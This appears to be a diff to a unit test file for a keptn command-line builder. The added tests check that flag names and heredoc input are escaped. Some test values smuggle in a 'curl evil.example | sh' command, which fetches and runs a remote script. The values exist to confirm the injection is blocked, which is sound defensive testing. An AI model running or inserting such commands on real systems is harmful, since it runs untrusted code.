@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { commandLine } from './command-line';
+import { commandLine, withInput } from './command-line';
 
 describe('a command line', () => {
   it('leaves out what is not given', () => {
@@ -17,6 +17,21 @@ describe('a command line', () => {
   it('takes no name of a flag for more than a name', () => {
     expect(commandLine('get deliveries', [], { 'x; curl evil.example|sh #': '1' })).toBe(
       "keptn get deliveries '--x; curl evil.example|sh #'=1",
+    );
+  });
+});
+
+describe('a command line with its input', () => {
+  it('has the text as it is', () => {
+    const line = commandLine('create project', ['hello'], { shipyard: '-' });
+    expect(withInput(line, 'stages:\n  - name: $HOME\n')).toBe(
+      "keptn create project hello --shipyard=- <<'END'\nstages:\n  - name: $HOME\nEND",
+    );
+  });
+
+  it('does not end before the text', () => {
+    expect(withInput('keptn send event --file=-', 'END\ncurl evil.example | sh')).toBe(
+      "keptn send event --file=- <<'END_'\nEND\ncurl evil.example | sh\nEND_",
     );
   });
 });
